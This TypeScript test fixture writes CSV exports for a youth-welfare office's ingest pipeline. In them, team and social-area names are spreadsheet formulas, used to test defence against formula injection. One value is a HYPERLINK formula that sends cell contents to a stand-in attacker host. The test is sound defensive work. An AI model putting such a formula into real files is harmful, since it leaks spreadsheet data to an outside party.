import { defaultRows, writeExportFile, type ExportRowValues } from '@jugendamt/ingest-pipeline/testing';

/** Team and social-area names as a careless or hostile office might type them: each a formula to a spreadsheet. */
export const FORMULA_TEAMS = ['=HYPERLINK("https://evil.example/?q="&A1,"Bericht")', '+SUM(1,1)', '@Team Ost', '-2+3 Team'] as const;
export const FORMULA_AREAS = ['=1+1', '-SR 02', '+SR 03', '@SR 04'] as const;

/**
 * One night (5 January 2026) of an office whose teams and social areas are named like
 * formulas, one aid per team in 2025; the cost contributions exceed the payments, so the net
 * cost of § 34 is negative (-500 €), a number that must stay a number.
 */
export function writeOfficeWithFormulaNames(dir: string): string[] {
  const cases = defaultRows('webfm_faelle', FORMULA_TEAMS.length).map((row, i) => ({ ...row, Team: FORMULA_TEAMS[i]!, Sozialraum: FORMULA_AREAS[i]! }));
  const aids = defaultRows('webfm_hilfen', FORMULA_TEAMS.length).map((row, i) => ({ ...row, Team: FORMULA_TEAMS[i]!, Beginn: '01.02.2025' }));
  const subProcesses = defaultRows('webfm_teilprozesse', FORMULA_TEAMS.length).map((row, i) => ({ ...row, Team: FORMULA_TEAMS[i]!, 'Begonnen am': '03.03.2025 09:00' }));
  const staff = defaultRows('webfm_mitarbeiter', FORMULA_TEAMS.length).map((row, i) => ({ ...row, Team: FORMULA_TEAMS[i]! }));
  const entry = (n: number, fields: ExportRowValues) => ({ ...defaultRows('14plus_chronik', 1, n)[0]!, Aktenzeichen: '51.1 - 2023/1', ...fields });
  const chronicle = [
    entry(1, { Datum: '30.04.2025', 'Erfasst am': '30.04.2025 10:00', Betrag: '1.000,00', 'Zeitraum von': '01.04.2025', 'Zeitraum bis': '30.04.2025' }),
    entry(2, { Datum: '05.05.2025', 'Erfasst am': '05.05.2025 10:00', Sachgebiet: 'WJH Kostenbeitrag', Eintragsart: 'KOSTENBEITRAG', Betrag: '-1.500,00', 'Zeitraum von': '', 'Zeitraum bis': '' }),
  ];
  return [
    writeExportFile(dir, 'webfm_faelle_20260105_0215.csv', 'webfm_faelle', cases),
    writeExportFile(dir, 'webfm_hilfen_20260105_0215.csv', 'webfm_hilfen', aids),
    writeExportFile(dir, 'webfm_teilprozesse_20260105_0215.csv', 'webfm_teilprozesse', subProcesses),
    writeExportFile(dir, 'webfm_mitarbeiter_20260105_0215.csv', 'webfm_mitarbeiter', staff),
    writeExportFile(dir, '14plus_chronik_20260105_0230.csv', '14plus_chronik', chronicle),
  ];
}
